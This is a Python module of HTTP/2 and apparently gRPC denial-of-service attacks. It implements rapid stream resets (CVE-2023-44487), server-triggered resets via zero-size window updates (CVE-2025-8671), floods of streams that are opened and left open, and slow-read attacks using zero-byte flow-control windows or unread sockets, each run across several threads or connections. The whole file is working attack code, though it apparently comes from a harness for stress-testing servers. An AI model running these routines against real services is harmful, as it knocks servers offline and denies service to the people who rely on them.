"""Attacks with streams: opened and reset, opened and left, opened without end, answered and not read."""

import struct

from attacks.target import hold_open, in_threads, persist
from attacks.wire import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    RST_STREAM,
    WINDOW_UPDATE,
    data_frames,
    frame,
    message,
    request_headers,
)


def _reset_by(target, end_of_stream):
    def body(peer):
        peer.acknowledge()
        while True:
            burst = []
            for _ in range(100):
                stream = next(peer.streams)
                burst.append(frame(HEADERS, END_HEADERS, stream, request_headers(target.unary)))
                burst.append(end_of_stream(stream))
            peer.send(b"".join(burst))

    in_threads(4, lambda: persist(target, body))


def rapid_reset(target):
    """calls opened and cancelled as fast as possible (CVE-2023-44487)"""
    _reset_by(target, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))


def rapid_reset_of_calls(target):
    """complete calls, each cancelled at once"""
    request, cancel = message(b""), struct.pack(">I", CANCEL)
    _reset_by(target, lambda stream: frame(DATA, END_STREAM, stream, request) + frame(RST_STREAM, 0, stream, cancel))


def made_reset(target):
    """calls that the server itself has to reset, as fast as possible (CVE-2025-8671)"""
    _reset_by(target, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


def open_streams(target):
    """as many open calls as possible on 8 connections that never acknowledge the server's settings"""

    call = request_headers(target.client_stream)

    def body(peer):
        while True:
            peer.send(b"".join(frame(HEADERS, END_HEADERS, next(peer.streams), call) for _ in range(50)))

    in_threads(8, lambda: persist(target, body))


def open_streams_politely(target):
    """100 open calls on each of 200 connections, which acknowledge the server's settings"""

    def prepare(peer):
        peer.acknowledge()
        for _ in range(100):
            peer.call(target.client_stream)

    hold_open(target, 200, prepare=prepare)


def _unread(target, path, connections, calls, window, request=b""):
    """Answers that cannot be sent, as the window of each stream is `window` bytes or the socket is not read."""

    def prepare(peer):
        peer.acknowledge()
        for _ in range(calls):
            stream = peer.call(path)
            peer.send(data_frames(stream, message(request)))

    hold_open(target, connections, own_settings={INITIAL_WINDOW_SIZE: window}, prepare=prepare, read=window == 0)


def unread_streams(target):
    """500 streams of all sales, with windows of zero bytes"""
    _unread(target, target.server_stream, 5, 100, 0)


def unread_sockets(target):
    """500 streams of all sales, with large windows on sockets that are not read"""
    _unread(target, target.server_stream, 50, 10, (1 << 31) - 1)


def unread_lists(target):
    """2,000 lists of 1,000 rows, with windows of zero bytes"""
    _unread(target, target.list, 20, 100, 0, request=b"\x08\xe8\x07")
